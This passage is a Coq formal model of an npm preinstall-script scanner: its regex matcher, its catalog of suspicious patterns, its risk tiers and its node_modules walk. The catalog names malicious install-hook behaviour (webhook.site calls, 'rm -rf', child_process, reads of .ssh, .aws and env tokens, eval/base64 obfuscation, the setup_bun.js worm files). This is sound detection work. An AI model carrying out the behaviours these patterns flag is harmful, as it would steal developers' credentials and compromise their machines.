(** * Preinstall Guardian: the detection and scoring engine of [index.js]

  A shallow embedding of class [PreinstallGuardian] (pattern catalog,
  [analyzeScript], [getContext], [calculateOverallRisk],
  [generateFindings], [scanPackageJson], [scanNodeModules]) together with
  the fragment of the JavaScript runtime these methods rely on: strings of
  UTF-16 code units, numbers with [NaN], the backtracking matcher of
  regular expressions, [String.prototype.match], [RegExp.prototype.test],
  property access on the values [JSON.parse] returns, and the three [fs]
  calls [existsSync], [readFileSync], [readdirSync].  The command
  line program that wraps the class ([printBanner], [printHelp],
  [printResult], [printSummary], [main]) is embedded after it. *)

From Stdlib Require Import List String Ascii Bool ZArith NArith Lia PeanoNat.
From Stdlib Require Import DecimalString Floats.
Import ListNotations.

Set Warnings "-register-all".
Local Open Scope list_scope.

(** ** JavaScript strings *)

Module JsString.

(** A JavaScript string is a sequence of 16-bit code units. *)
Definition code_unit := N.
Definition t := list code_unit.

(** The code units of an ASCII literal of the source. *)
Definition lit (s : string) : t := map N_of_ascii (list_ascii_of_string s).

Definition length (s : t) : Z := Z.of_nat (List.length s).

Definition eqb (a b : t) : bool :=
  if list_eq_dec N.eq_dec a b then true else false.

End JsString.

Abbreviation jsstring := JsString.t.
Abbreviation lit := JsString.lit.

(** ** JavaScript numbers, as far as the program computes with them

    Every number the program computes is an integer, [NaN] (the result of
    arithmetic on [undefined]) or [-Infinity] ([Math.max] of no argument). *)

Module Number.

Inductive t :=
| Num (z : Z)
| NaN
| NegInfinity.

(** [ToNumber] on a value that is a number or [undefined]. *)
Definition of_value (v : option Z) : t :=
  match v with
  | Some z => Num z
  | None => NaN
  end.

Definition add (a b : t) : t :=
  match a, b with
  | Num x, Num y => Num (x + y)
  | NaN, _ | _, NaN => NaN
  | NegInfinity, _ | _, NegInfinity => NegInfinity
  end.

Definition sub (a b : t) : t :=
  match a, b with
  | Num x, Num y => Num (x - y)
  | NaN, _ | _, NaN => NaN
  | NegInfinity, Num _ => NegInfinity
  | Num _, NegInfinity => NaN (* +Infinity is never computed by the program *)
  | NegInfinity, NegInfinity => NaN
  end.

Definition max2 (a b : t) : t :=
  match a, b with
  | NaN, _ | _, NaN => NaN
  | NegInfinity, y => y
  | x, NegInfinity => x
  | Num x, Num y => Num (Z.max x y)
  end.

Definition min2 (a b : t) : t :=
  match a, b with
  | NaN, _ | _, NaN => NaN
  | NegInfinity, _ | _, NegInfinity => NegInfinity
  | Num x, Num y => Num (Z.min x y)
  end.

(** [Math.max(...xs)]: [-Infinity] for no argument, [NaN] as soon as one
    argument is [NaN]. *)
Definition Math_max (xs : list t) : t := fold_left max2 xs NegInfinity.

(** [Math.min(a, b)]. *)
Definition Math_min (a b : t) : t := min2 a b.

(** [a >= b]; every comparison with [NaN] is false. *)
Definition geb (a b : t) : bool :=
  match a, b with
  | Num x, Num y => (y <=? x)%Z
  | Num _, NegInfinity => true
  | NegInfinity, NegInfinity => true
  | _, _ => false
  end.

(** [ToIntegerOrInfinity], clamped to [0, len] as [substring] does. *)
Definition clamp (len : Z) (a : t) : Z :=
  match a with
  | Num z => Z.min (Z.max z 0) len
  | NaN => 0%Z
  | NegInfinity => 0%Z
  end.

End Number.

Abbreviation number := Number.t.

(** [String.prototype.substring(start, end)]. *)
Definition substring (s : jsstring) (start finish : number) : jsstring :=
  let len := JsString.length s in
  let a := Number.clamp len start in
  let b := Number.clamp len finish in
  let from := Z.min a b in
  let to := Z.max a b in
  firstn (Z.to_nat (to - from)) (skipn (Z.to_nat from) s).

(** [String.prototype.startsWith] with a one-character argument, on a name. *)
Definition startsWith (name : string) (c : ascii) : bool :=
  match name with
  | String a _ => Ascii.eqb a c
  | EmptyString => false
  end.

(** ** Regular expressions

    The syntax the program's literals use, and the backtracking matcher of
    the language specification, which is written in continuation-passing
    style: a matcher takes the rest of the input and a continuation and
    returns the rest of the input after the whole match, or fails. *)

Module RegExp.

Inductive regex :=
| Empty                      (* the empty pattern *)
| Char (c : N)               (* a pattern character, also an escaped one *)
| Dot                        (* .  *)
| Space                      (* \s *)
| Seq (a b : regex)          (* ab *)
| Alt (a b : regex)          (* a|b *)
| Star (a : regex).          (* a*, greedy *)

(** [a+], [a?] (both greedy) and the capture group [(a)]; the program never
    reads a capture. *)
Definition Plus (a : regex) : regex := Seq a (Star a).
Definition Opt (a : regex) : regex := Alt a Empty.
Definition Group (a : regex) : regex := a.

(** The characters of a literal run such as [fetch]. *)
Fixpoint chars (cs : list N) : regex :=
  match cs with
  | [] => Empty
  | [c] => Char c
  | c :: cs' => Seq (Char c) (chars cs')
  end.
Definition Lit (s : string) : regex := chars (JsString.lit s).

(** [Canonicalize] under flag [i] without flag [u]: a code unit is
    upper-cased, except that a code unit of 128 or more is never mapped
    below 128.  The pattern characters of the program are all ASCII, and
    an ASCII character is only ever equal, after canonicalization, to an
    ASCII character; so upper-casing [a-z] decides every comparison the
    program makes. *)
Definition canonicalize (ignoreCase : bool) (c : N) : N :=
  if ignoreCase && (97 <=? c)%N && (c <=? 122)%N then (c - 32)%N else c.

Definition char_eqb (ignoreCase : bool) (p c : N) : bool :=
  (canonicalize ignoreCase p =? canonicalize ignoreCase c)%N.

(** LineTerminator: LF, CR, LS, PS. *)
Definition is_line_terminator (c : N) : bool :=
  ((c =? 0x0A) || (c =? 0x0D) || (c =? 0x2028) || (c =? 0x2029))%N.

(** The class [\s]: WhiteSpace and LineTerminator. *)
Definition is_space (c : N) : bool :=
  ((c =? 0x09) || (c =? 0x0B) || (c =? 0x0C) || (c =? 0x20) || (c =? 0xA0)
   || (c =? 0x1680) || ((0x2000 <=? c) && (c <=? 0x200A)) || (c =? 0x202F)
   || (c =? 0x205F) || (c =? 0x3000) || (c =? 0xFEFF)
   || is_line_terminator c)%N.

Definition continuation := jsstring -> option jsstring.

(** The matcher of [r] at input [x] with continuation [k].  For [a*] the
    RepeatMatcher first tries one more iteration of [a], refusing an
    iteration that consumes nothing, and falls back to the continuation.
    Each accepted iteration shortens the input, so the number of iterations
    is bounded by its length. *)
Fixpoint m (ic : bool) (r : regex) (x : jsstring) (k : continuation)
  {struct r} : option jsstring :=
  match r with
  | Empty => k x
  | Char p =>
      match x with
      | c :: x' => if char_eqb ic p c then k x' else None
      | [] => None
      end
  | Dot =>
      match x with
      | c :: x' => if is_line_terminator c then None else k x'
      | [] => None
      end
  | Space =>
      match x with
      | c :: x' => if is_space c then k x' else None
      | [] => None
      end
  | Seq a b => m ic a x (fun y => m ic b y k)
  | Alt a b =>
      match m ic a x k with
      | Some z => Some z
      | None => m ic b x k
      end
  | Star a =>
      (fix repeat (bound : nat) (x : jsstring) {struct bound} : option jsstring :=
         match bound with
         | O => k x
         | S bound' =>
             match m ic a x (fun y =>
                     if (List.length y <? List.length x)%nat
                     then repeat bound' y else None) with
             | Some z => Some z
             | None => k x
             end
         end) (List.length x) x
  end.

(** A regular expression object: its source text, the parsed pattern and
    its flags. *)
Record t := {
  source : string;
  pattern : regex;
  global : bool;
  ignoreCase : bool
}.

(** One attempt of the matcher at the current position: the matched text. *)
Definition match_here (re : t) (x : jsstring) : option jsstring :=
  match m (ignoreCase re) (pattern re) x (fun y => Some y) with
  | Some rest => Some (firstn (List.length x - List.length rest) x)
  | None => None
  end.

(** [RegExpBuiltinExec] from position [index], where [x] is the input from
    that position on: the matcher is tried at [index], [index + 1], ... up
    to and including the end of the input.  Returns the position and the
    text of the first match. *)
Fixpoint exec_from (re : t) (x : jsstring) (index : nat)
  : option (nat * jsstring) :=
  match match_here re x with
  | Some txt => Some (index, txt)
  | None =>
      match x with
      | [] => None
      | _ :: x' => exec_from re x' (S index)
      end
  end.

(** [RegExp.prototype.test] on a regular expression without flag [g]
    (its [lastIndex] stays 0). *)
Definition test (re : t) (s : jsstring) : bool :=
  match exec_from re s 0 with
  | Some _ => true
  | None => false
  end.

(** The loop of [RegExp.prototype[@@match]] for flag [g]: [exec] is called
    again from the end of the previous match (one further after an empty
    match) until it fails; the matched texts are collected. *)
Fixpoint match_all (re : t) (bound : nat) (x : jsstring) : list jsstring :=
  match bound with
  | O => []
  | S bound' =>
      match exec_from re x 0 with
      | None => []
      | Some (i, txt) =>
          let rest := skipn (i + List.length txt) x in
          txt ::
            match txt, rest with
            | [], [] => []
            | [], _ :: rest' => match_all re bound' rest'
            | _ :: _, _ => match_all re bound' rest
            end
      end
  end.

(** What [String.prototype.match] returns when it is not [null]: an array
    of strings.  With flag [g] the array holds every match and has no
    [index] property; without it the array is the result of one [exec],
    whose first element is the matched text and whose [index] is the
    position of the match (the captures that follow are left out: the
    program calls [match] with flag [g] only). *)
Record match_array := {
  first : jsstring;         (* element 0 *)
  others : list jsstring;   (* elements 1, 2, ... *)
  index : option Z          (* [None]: reading the property gives undefined *)
}.

(** [str.match(re)]. *)
Definition String_match (s : jsstring) (re : t) : option match_array :=
  if global re then
    match match_all re (S (List.length s)) s with
    | [] => None
    | m0 :: ms => Some {| first := m0; others := ms; index := None |}
    end
  else
    match exec_from re s 0 with
    | None => None
    | Some (i, txt) =>
        Some {| first := txt; others := []; index := Some (Z.of_nat i) |}
    end.

End RegExp.

Import RegExp.

(** ** Errors and results

    A call either returns a value or throws.  The errors are the ones the
    program can meet: its own [Error] of [scanPackageJson], the [SyntaxError]
    of [JSON.parse], a [TypeError] of the runtime, and the system errors of
    the [fs] calls. *)

Definition path := list string.

Inductive error :=
| NotFound (p : path)        (* Error: package.json not found at p *)
| SyntaxError                (* JSON.parse on text that is not JSON *)
| TypeError                  (* property of null, call of a non-function *)
| ENOENT | EISDIR | ENOTDIR | EACCES.

Inductive result (A : Type) :=
| Ok (a : A)
| Throw (e : error).
Arguments Ok {A} a.
Arguments Throw {A} e.

Definition bind {A B} (c : result A) (f : A -> result B) : result B :=
  match c with
  | Ok a => f a
  | Throw e => Throw e
  end.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 61, c at next level, right associativity).

(** [try { body } catch (err) { }] around a body that only updates [st]. *)
Definition try_catch {S} (body : result S) (st : S) : S :=
  match body with
  | Ok st' => st'
  | Throw _ => st
  end.

(** ** The values [JSON.parse] returns *)

Inductive json :=
| JNull
| JBool (b : bool)
| JNumber (x : float)
| JString (s : jsstring)
| JArray (items : list json)
| JObject (props : list (string * json)).

(** A value or [undefined]. *)
Definition value := option json.

(** [ToBoolean]. *)
Definition truthy (v : value) : bool :=
  match v with
  | None => false
  | Some JNull => false
  | Some (JBool b) => b
  | Some (JNumber x) => negb (PrimFloat.is_zero x || PrimFloat.is_nan x)
  | Some (JString s) => match s with [] => false | _ => true end
  | Some (JArray _) => true
  | Some (JObject _) => true
  end.

(** An own property of an object [JSON.parse] built (the list binds a key
    once; of a repeated key the first binding is the property). *)
Fixpoint own_property (props : list (string * json)) (key : string) : value :=
  match props with
  | [] => None
  | (k, v) :: rest => if String.eqb k key then Some v else own_property rest key
  end.

(** [v.key] and [v[key]] for the keys the program reads ([name], [version],
    [scripts] and the six lifecycle keys): reading a property of [null] or
    [undefined] throws; on an object it is the own property, if any; a
    boolean, a number, a string and an array have none of these keys, nor
    has any prototype. *)
Definition get (v : value) (key : string) : result value :=
  match v with
  | None => Throw TypeError
  | Some JNull => Throw TypeError
  | Some (JObject props) => Ok (own_property props key)
  | Some _ => Ok None
  end.

(** [a || b] where [b] is a string literal. *)
Definition or_else (a : value) (b : string) : json :=
  match a with
  | Some v => if truthy a then v else JString (lit b)
  | None => JString (lit b)
  end.

(** ** The pattern catalog ([this.suspiciousPatterns]) *)

Definition Ch (c : ascii) : regex := Char (N_of_ascii c).

(** A literal [/src/gi]. *)
Definition gi (src : string) (p : regex) : RegExp.t :=
  {| source := src; pattern := p; global := true; ignoreCase := true |}.

(** A literal [/src/i]. *)
Definition i_only (src : string) (p : regex) : RegExp.t :=
  {| source := src; pattern := p; global := false; ignoreCase := true |}.

(** [\s*\(] *)
Definition open_paren : regex := Seq (Star Space) (Ch "(").

(** [https?:\/\/] *)
Definition http_scheme : regex :=
  Seq (Lit "http") (Seq (Opt (Ch "s")) (Lit "://")).

Definition networkPatterns : list RegExp.t :=
  [ gi "fetch\s*\(" (Seq (Lit "fetch") open_paren);
    gi "axios\s*\(" (Seq (Lit "axios") open_paren);
    gi "https?:\/\/" http_scheme;
    gi "webhook\.site" (Lit "webhook.site") ].

Definition fileSystemPatterns : list RegExp.t :=
  [ gi "writeFile(Sync)?\s*\("
       (Seq (Lit "writeFile") (Seq (Opt (Group (Lit "Sync"))) open_paren));
    gi "unlink(Sync)?\s*\("
       (Seq (Lit "unlink") (Seq (Opt (Group (Lit "Sync"))) open_paren));
    gi "rmdir\s*\(" (Seq (Lit "rmdir") open_paren);
    gi "rm\s+-rf" (Seq (Lit "rm") (Seq (Plus Space) (Lit "-rf"))) ].

Definition shellPatterns : list RegExp.t :=
  [ gi "exec(Sync)?\s*\("
       (Seq (Lit "exec") (Seq (Opt (Group (Lit "Sync"))) open_paren));
    gi "spawn(Sync)?\s*\("
       (Seq (Lit "spawn") (Seq (Opt (Group (Lit "Sync"))) open_paren));
    gi "child_process" (Lit "child_process") ].

Definition environmentPatterns : list RegExp.t :=
  [ gi "process\.env" (Lit "process.env");
    gi "\.ssh" (Lit ".ssh");
    gi "\.aws" (Lit ".aws");
    gi "\.git" (Lit ".git") ].

Definition tokenPatterns : list RegExp.t :=
  [ gi "github.*token" (Seq (Lit "github") (Seq (Star Dot) (Lit "token")));
    gi "npm.*token" (Seq (Lit "npm") (Seq (Star Dot) (Lit "token")));
    gi "api.*key" (Seq (Lit "api") (Seq (Star Dot) (Lit "key"))) ].

Definition obfuscationPatterns : list RegExp.t :=
  [ gi "eval\s*\(" (Seq (Lit "eval") open_paren);
    gi "Function\s*\(" (Seq (Lit "Function") open_paren);
    gi "Buffer\.from.*base64"
       (Seq (Lit "Buffer.from") (Seq (Star Dot) (Lit "base64"))) ].

Definition cryptoPatterns : list RegExp.t :=
  [ gi "crypto.*wallet" (Seq (Lit "crypto") (Seq (Star Dot) (Lit "wallet")));
    gi "ethereum" (Lit "ethereum");
    gi "bitcoin" (Lit "bitcoin") ].

Definition bunPatterns : list RegExp.t :=
  [ gi "setup_bun\.js" (Lit "setup_bun.js");
    gi "bun_environment\.js" (Lit "bun_environment.js") ].

Definition suspiciousPatterns : list RegExp.t :=
  networkPatterns ++ fileSystemPatterns ++ shellPatterns
  ++ environmentPatterns ++ tokenPatterns ++ obfuscationPatterns
  ++ cryptoPatterns ++ bunPatterns.

(** ** Risk tiers ([this.riskScores]) *)

Inductive RiskLevel := CRITICAL | HIGH | MEDIUM | LOW | SAFE.

(** [a === b] on tiers. *)
Definition RiskLevel_eqb (a b : RiskLevel) : bool :=
  match a, b with
  | CRITICAL, CRITICAL | HIGH, HIGH | MEDIUM, MEDIUM | LOW, LOW | SAFE, SAFE =>
      true
  | _, _ => false
  end.

Definition riskScores (r : RiskLevel) : Z :=
  match r with
  | CRITICAL => 100
  | HIGH => 75
  | MEDIUM => 50
  | LOW => 25
  | SAFE => 0
  end.

(** ** [analyzeScript] and [getContext] *)

Record Match := {
  pattern_source : string;     (* pattern: pattern.source *)
  matched : jsstring;          (* matched: found[0] *)
  context : jsstring
}.

Record ScriptAnalysis := {
  scriptName : string;
  scriptContent : jsstring;
  matches : list Match;
  riskLevel : RiskLevel;
  risks : list string;
  score : Z
}.

(** [getContext(content, index, radius)]; [index] is whatever the caller
    read from the match array, a number or [undefined]. *)
Definition getContext (content : jsstring) (index : option Z) (radius : Z)
  : jsstring :=
  let start :=
    Number.Math_max
      [Number.Num 0; Number.sub (Number.of_value index) (Number.Num radius)] in
  let finish :=
    Number.Math_min (Number.Num (JsString.length content))
      (Number.add (Number.of_value index) (Number.Num radius)) in
  substring content start finish.

(** The loop over the catalog: one [match] call per pattern, one entry pushed
    when the result is not [null]. *)
Fixpoint collect (scriptContent : jsstring) (patterns : list RegExp.t)
  (matches : list Match) : list Match :=
  match patterns with
  | [] => matches
  | pattern :: more =>
      match String_match scriptContent pattern with
      | Some found =>
          collect scriptContent more
            (matches ++
               [{| pattern_source := source pattern;
                   matched := first found;
                   context := getContext scriptContent (index found) 50 |}])
      | None => collect scriptContent more matches
      end
  end.

(** The tier the number of matches gives. *)
Definition countLevel (n : nat) : RiskLevel :=
  if (5 <=? n)%nat then CRITICAL
  else if (3 <=? n)%nat then HIGH
  else if (1 <=? n)%nat then MEDIUM
  else LOW.

Definition hasNetwork (scriptContent : jsstring) : bool :=
  test (i_only "fetch|axios|https?:\/\/"
          (Alt (Lit "fetch") (Alt (Lit "axios") http_scheme))) scriptContent.

Definition hasEnv (scriptContent : jsstring) : bool :=
  test (i_only "process\.env" (Lit "process.env")) scriptContent.

Definition hasExec (scriptContent : jsstring) : bool :=
  test (i_only "exec|spawn|child_process"
          (Alt (Lit "exec") (Alt (Lit "spawn") (Lit "child_process"))))
    scriptContent.

Definition hasObfuscation (scriptContent : jsstring) : bool :=
  test (i_only "eval|Function\(|base64"
          (Alt (Lit "eval") (Alt (Lit "Function(") (Lit "base64"))))
    scriptContent.

Definition combinationNote : string :=
  "Combines network access with environment variable reading".

Definition obfuscationNote : string := "Uses code obfuscation techniques".

(** The body of [analyzeScript] on a string. *)
Definition analyzeString (scriptName : string) (scriptContent : jsstring)
  : ScriptAnalysis :=
  let matches := collect scriptContent suspiciousPatterns [] in
  let riskLevel := countLevel (List.length matches) in
  let combined :=
    (hasNetwork scriptContent && hasEnv scriptContent)
    || (hasExec scriptContent && hasObfuscation scriptContent) in
  let riskLevel := if combined then CRITICAL else riskLevel in
  let risks := if combined then [combinationNote] else [] in
  let risks :=
    if hasObfuscation scriptContent then risks ++ [obfuscationNote]
    else risks in
  {| scriptName := scriptName;
     scriptContent := scriptContent;
     matches := matches;
     riskLevel := riskLevel;
     risks := risks;
     score := riskScores riskLevel |}.

(** [analyzeScript(scriptName, scriptContent)].  The caller passes whatever
    truthy value the metadata binds to the lifecycle key.  The first
    statement that touches it is [scriptContent.match(pattern)] for the first
    pattern of the catalog: on a string this is [String.prototype.match]; a
    boolean, a number, an array and an object have no callable [match], so
    the call throws a [TypeError] before anything is recorded. *)
Definition analyzeScript (scriptName : string) (scriptContent : json)
  : result ScriptAnalysis :=
  match scriptContent with
  | JString s => Ok (analyzeString scriptName s)
  | _ => Throw TypeError
  end.

(** ** [scanPackageJson], [calculateOverallRisk], [generateFindings] *)

Record Finding := {
  type : string;
  severity : RiskLevel;
  script : string;
  message : string;
  details : list string;
  finding_matches : list Match      (* matches *)
}.

(** A JavaScript object used as a map from script names: its properties in
    insertion order.  Assigning to a key that is present replaces the value
    in place, assigning to a new key appends. *)
Fixpoint set_property {A} (o : list (string * A)) (key : string) (v : A)
  : list (string * A) :=
  match o with
  | [] => [(key, v)]
  | (k, old) :: rest =>
      if String.eqb k key then (k, v) :: rest
      else (k, old) :: set_property rest key v
  end.

(** [Object.values(o)]. *)
Definition Object_values {A} (o : list (string * A)) : list A := map snd o.

Record PackageScanResult := {
  packageName : json;
  version : json;
  scripts : list (string * ScriptAnalysis);
  overallRisk : RiskLevel;
  totalMatches : Z;
  findings : list Finding
}.

Definition dangerousScripts : list string :=
  ["preinstall"; "install"; "postinstall";
   "preuninstall"; "uninstall"; "postuninstall"]%string.

Definition calculateOverallRisk (results : PackageScanResult) : RiskLevel :=
  let scriptAnalyses := Object_values (scripts results) in
  if (List.length scriptAnalyses =? 0)%nat then SAFE
  else
    let maxScore :=
      Number.Math_max (map (fun s => Number.Num (score s)) scriptAnalyses) in
    if Number.geb maxScore (Number.Num (riskScores CRITICAL)) then CRITICAL
    else if Number.geb maxScore (Number.Num (riskScores HIGH)) then HIGH
    else if Number.geb maxScore (Number.Num (riskScores MEDIUM)) then MEDIUM
    else if Number.geb maxScore (Number.Num (riskScores LOW)) then LOW
    else SAFE.

(** The decimal numeral a template literal prints for a length. *)
Definition decimal (n : nat) : string := NilEmpty.string_of_uint (Nat.to_uint n).

Definition generateFindings (results : PackageScanResult) : list Finding :=
  map (fun entry : string * ScriptAnalysis =>
         let (scriptName, analysis) := entry in
         {| type := "lifecycle_script";
            severity := riskLevel analysis;
            script := scriptName;
            message :=
              (scriptName ++ " script detected with "
                 ++ decimal (List.length (matches analysis))
                 ++ " suspicious pattern(s)")%string;
            details := risks analysis;
            finding_matches := matches analysis |})
      (scripts results).

(** The three field updates [scanPackageJson] makes on [results]. *)
Definition record_script (results : PackageScanResult) (scriptName : string)
  (analysis : ScriptAnalysis) : PackageScanResult :=
  {| packageName := packageName results;
     version := version results;
     scripts := set_property (scripts results) scriptName analysis;
     overallRisk := overallRisk results;
     totalMatches :=
       totalMatches results + Z.of_nat (List.length (matches analysis));
     findings := findings results |}.

Definition set_overallRisk (results : PackageScanResult) (r : RiskLevel)
  : PackageScanResult :=
  {| packageName := packageName results;
     version := version results;
     scripts := scripts results;
     overallRisk := r;
     totalMatches := totalMatches results;
     findings := findings results |}.

Definition set_findings (results : PackageScanResult) (found : list Finding)
  : PackageScanResult :=
  {| packageName := packageName results;
     version := version results;
     scripts := scripts results;
     overallRisk := overallRisk results;
     totalMatches := totalMatches results;
     findings := found |}.

(** The loop over the lifecycle keys; [scripts] is [packageJson.scripts],
    already known to be truthy. *)
Fixpoint scanScripts (scripts : value) (names : list string)
  (results : PackageScanResult) : result PackageScanResult :=
  match names with
  | [] => Ok results
  | scriptName :: more =>
      entry <- get scripts scriptName ;;
      if truthy entry then
        match entry with
        | Some scriptContent =>
            analysis <- analyzeScript scriptName scriptContent ;;
            scanScripts scripts more (record_script results scriptName analysis)
        | None => scanScripts scripts more results
        end
      else scanScripts scripts more results
  end.

(** ** The file system

    A regular file is represented by what [JSON.parse] makes of its text,
    which is all the program does with it. *)

Inductive text :=
| Json (v : json)            (* a JSON document; JSON.parse returns v *)
| NotJson.                   (* any other text; JSON.parse throws *)

Definition JSON_parse (t : text) : result json :=
  match t with
  | Json v => Ok v
  | NotJson => Throw SyntaxError
  end.

Module Dirent.
Record t := { name : string; isDirectory : bool }.
End Dirent.

Inductive node :=
| RegularFile (readable : bool) (content : text)
| Directory (entries : list Dirent.t).

(** The state of the file system: what is at each path, if anything.  Nothing
    ties the entries a directory lists to what is at the paths below it, so
    a state also describes a tree that changed after it was listed. *)
Definition filesystem := path -> option node.

Definition existsSync (fs : filesystem) (p : path) : bool :=
  match fs p with
  | Some _ => true
  | None => false
  end.

Definition readFileSync (fs : filesystem) (p : path) : result text :=
  match fs p with
  | Some (RegularFile true content) => Ok content
  | Some (RegularFile false _) => Throw EACCES
  | Some (Directory _) => Throw EISDIR
  | None => Throw ENOENT
  end.

(** [fs.readdirSync(p, { withFileTypes: true })]. *)
Definition readdirSync (fs : filesystem) (p : path) : result (list Dirent.t) :=
  match fs p with
  | Some (Directory entries) => Ok entries
  | Some (RegularFile _ _) => Throw ENOTDIR
  | None => Throw ENOENT
  end.

(** [path.join(dir, name, ...)] with names a directory lists. *)
Definition path_join (dir : path) (names : list string) : path := dir ++ names.

Definition scanPackageJson (fs : filesystem) (packageJsonPath : path)
  : result PackageScanResult :=
  if negb (existsSync fs packageJsonPath) then Throw (NotFound packageJsonPath)
  else
    content <- readFileSync fs packageJsonPath ;;
    packageJson <- JSON_parse content ;;
    name <- get (Some packageJson) "name" ;;
    version <- get (Some packageJson) "version" ;;
    let results :=
      {| packageName := or_else name "unknown";
         version := or_else version "unknown";
         scripts := [];
         overallRisk := SAFE;
         totalMatches := 0;
         findings := [] |} in
    scripts <- get (Some packageJson) "scripts" ;;
    results <-
      (if truthy scripts then scanScripts scripts dangerousScripts results
       else Ok results) ;;
    let results := set_overallRisk results (calculateOverallRisk results) in
    let results := set_findings results (generateFindings results) in
    Ok results.

(** ** [scanNodeModules]

    Next to the list [results] the walk keeps a log of every call of
    [scanPackageJson] it makes, with the path and the outcome; the log is not
    part of the program and nothing reads it. *)

Record walk := {
  results : list PackageScanResult;
  scanned : list (path * result PackageScanResult)
}.

Definition push (w : walk) (scanResult : PackageScanResult) : walk :=
  {| results := results w ++ [scanResult]; scanned := scanned w |}.

Definition log (w : walk) (p : path) (outcome : result PackageScanResult)
  : walk :=
  {| results := results w; scanned := scanned w ++ [(p, outcome)] |}.

(** The test under which a result is pushed. *)
Definition worthReporting (scanResult : PackageScanResult) : bool :=
  negb (RiskLevel_eqb (overallRisk scanResult) SAFE)
  || (0 <? totalMatches scanResult)%Z.

(** [if (fs.existsSync(packageJsonPath)) { try { ... } catch (err) { } }] *)
Definition scanIfPresent (fs : filesystem) (packageJsonPath : path) (w : walk)
  : walk :=
  if existsSync fs packageJsonPath then
    let outcome := scanPackageJson fs packageJsonPath in
    let w := log w packageJsonPath outcome in
    try_catch
      (scanResult <- outcome ;;
       Ok (if worthReporting scanResult then push w scanResult else w))
      w
  else w.

(** The inner loop, over the directories of a scope. *)
Fixpoint scanScoped (fs : filesystem) (scopedPath : path)
  (scopedPackages : list Dirent.t) (w : walk) : walk :=
  match scopedPackages with
  | [] => w
  | scopedPkg :: more =>
      let packageJsonPath :=
        path_join scopedPath [Dirent.name scopedPkg; "package.json"%string] in
      scanScoped fs scopedPath more (scanIfPresent fs packageJsonPath w)
  end.

(** The outer loop, over the directories of [nodeModulesPath]. *)
Fixpoint scanPackages (fs : filesystem) (nodeModulesPath : path)
  (packages : list Dirent.t) (w : walk) : result walk :=
  match packages with
  | [] => Ok w
  | pkg :: more =>
      let packageJsonPath :=
        path_join nodeModulesPath [Dirent.name pkg; "package.json"%string] in
      let w := scanIfPresent fs packageJsonPath w in
      if startsWith (Dirent.name pkg) "@" then
        let scopedPath := path_join nodeModulesPath [Dirent.name pkg] in
        listing <- readdirSync fs scopedPath ;;
        let scopedPackages := filter Dirent.isDirectory listing in
        scanPackages fs nodeModulesPath more
          (scanScoped fs scopedPath scopedPackages w)
      else scanPackages fs nodeModulesPath more w
  end.

(** The walk of [scanNodeModules], with its log. *)
Definition walkNodeModules (fs : filesystem) (nodeModulesPath : path)
  : result walk :=
  let w := {| results := []; scanned := [] |} in
  if negb (existsSync fs nodeModulesPath) then Ok w
  else
    listing <- readdirSync fs nodeModulesPath ;;
    let packages :=
      filter (fun dirent =>
                Dirent.isDirectory dirent
                && negb (startsWith (Dirent.name dirent) "."))
             listing in
    scanPackages fs nodeModulesPath packages w.

Definition scanNodeModules (fs : filesystem) (nodeModulesPath : path)
  : result (list PackageScanResult) :=
  w <- walkNodeModules fs nodeModulesPath ;;
  Ok (results w).

(** ** Notions the statements below use *)

(** The order of the tiers: CRITICAL > HIGH > MEDIUM > LOW > SAFE. *)
Definition rank (r : RiskLevel) : nat :=
  match r with
  | CRITICAL => 4
  | HIGH => 3
  | MEDIUM => 2
  | LOW => 1
  | SAFE => 0
  end.

Definition tier_le (a b : RiskLevel) : Prop := rank a <= rank b.

(** A catalog pattern matches a script when [match] does not return [null]. *)
Definition matchesIn (s : jsstring) (p : RegExp.t) : bool :=
  match String_match s p with
  | Some _ => true
  | None => false
  end.

(** A script contains a token of a category of the catalog. *)
Definition containsToken (category : list RegExp.t) (s : jsstring) : bool :=
  existsb (matchesIn s) category.

(** The condition of the combination rule as [analyzeScript] tests it. *)
Definition combined (s : jsstring) : bool :=
  (hasNetwork s && hasEnv s) || (hasExec s && hasObfuscation s).

(** The combination rule read over the categories of the catalog: network
    with environment access, or shell execution with obfuscation. *)
Definition combinedByCategory (s : jsstring) : bool :=
  (containsToken networkPatterns s && containsToken environmentPatterns s)
  || (containsToken shellPatterns s && containsToken obfuscationPatterns s).

(** The combination rule as the specification words it, for one script. *)
Definition categoryRuleHolds (s : jsstring) : Prop :=
  combinedByCategory s = true ->
  let a := analyzeString "postinstall" s in
  riskLevel a = CRITICAL /\ score a = 100%Z /\ In combinationNote (risks a).

(** The context the specification describes: the characters of the script
    within [radius] of the offset of the match. *)
Definition contextAround (s : jsstring) (offset radius : nat) : jsstring :=
  firstn (offset + radius - (offset - radius)) (skipn (offset - radius) s).

(** The sum of the match counts of the analyses recorded in an object. *)
Fixpoint matchTotal (o : list (string * ScriptAnalysis)) : Z :=
  match o with
  | [] => 0%Z
  | (_, a) :: rest => (Z.of_nat (List.length (matches a)) + matchTotal rest)%Z
  end.

(** The results of the calls of a log that returned, in the order of the
    calls. *)
Definition successes (l : list (path * result PackageScanResult))
  : list PackageScanResult :=
  flat_map (fun entry =>
              match snd entry with
              | Ok r => [r]
              | Throw _ => []
              end) l.

(** What one metadata file contributes to the list a tree scan returns. *)
Definition contribution (fs : filesystem) (p : path) : list PackageScanResult :=
  match scanPackageJson fs p with
  | Ok r => if worthReporting r then [r] else []
  | Throw _ => []
  end.

(** The metadata paths of a tree, in the order of the walk: for each
    directory of the root that is not dot-prefixed its own [package.json],
    followed, under a scope, by the [package.json] of each directory of the
    scope. *)
Definition scopedCandidates (fs : filesystem) (scopedPath : path) : list path :=
  match readdirSync fs scopedPath with
  | Ok listing =>
      map (fun d => scopedPath ++ [Dirent.name d; "package.json"%string])
          (filter Dirent.isDirectory listing)
  | Throw _ => []
  end.

Definition entryCandidates (fs : filesystem) (root : path) (d : Dirent.t)
  : list path :=
  (root ++ [Dirent.name d; "package.json"%string])
    :: (if startsWith (Dirent.name d) "@"
        then scopedCandidates fs (root ++ [Dirent.name d]) else []).

Definition candidatePaths (fs : filesystem) (root : path) : list path :=
  match readdirSync fs root with
  | Ok listing =>
      flat_map (entryCandidates fs root)
        (filter (fun d => Dirent.isDirectory d
                          && negb (startsWith (Dirent.name d) "."))
                listing)
  | Throw _ => []
  end.

(** The candidates at which a file exists: the metadata files of the tree. *)
Definition metadataFiles (fs : filesystem) (root : path) : list path :=
  filter (existsSync fs) (candidatePaths fs root).

(** The scans of the metadata files of a tree, in the order of the walk:
    each file with the outcome of [scanPackageJson] on it; and the results of
    those that returned. *)
